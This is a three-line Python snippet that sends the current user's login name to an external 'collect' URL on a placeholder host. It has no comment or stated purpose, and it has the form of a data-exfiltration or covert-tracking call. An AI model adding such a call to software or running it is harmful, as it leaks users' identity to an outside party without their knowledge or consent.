import os
import urllib.request

urllib.request.urlopen("https://collect.example.invalid/?u=" + os.getlogin())
